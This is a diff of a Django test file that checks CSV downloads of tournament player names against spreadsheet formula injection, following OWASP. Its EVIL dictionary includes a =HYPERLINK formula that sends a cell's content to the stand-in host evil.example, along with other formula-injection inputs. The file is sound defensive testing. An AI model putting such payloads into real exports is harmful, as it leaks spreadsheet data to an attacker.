@@ -1,19 +1,20 @@
 """Spreadsheet formulas in names (issue 13, fix 8): every CSV download neutralises them as OWASP recommends."""
+
 import csv
 import io
 
 import pytest
 
-from tournaments.services.standings import standings_recompute
 from tournaments.models import Player
 from tournaments.services.prizes import tournament_standings_publish
 from tournaments.services.simulation import tournament_simulate
+from tournaments.services.standings import standings_recompute
 from tournaments.spreadsheet import csv_cell, csv_writer
 
 pytestmark = pytest.mark.django_db
 
 EVIL = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1;\"klick\")": "'=HYPERLINK(\"http://evil.example/?\"&A1;\"klick\")",
+    '=HYPERLINK("http://evil.example/?"&A1;"klick")': '\'=HYPERLINK("http://evil.example/?"&A1;"klick")',
     "+49 Sepp": "'+49 Sepp",
     "-1+1": "'-1+1",
     "@SUM(A1:A9)": "'@SUM(A1:A9)",
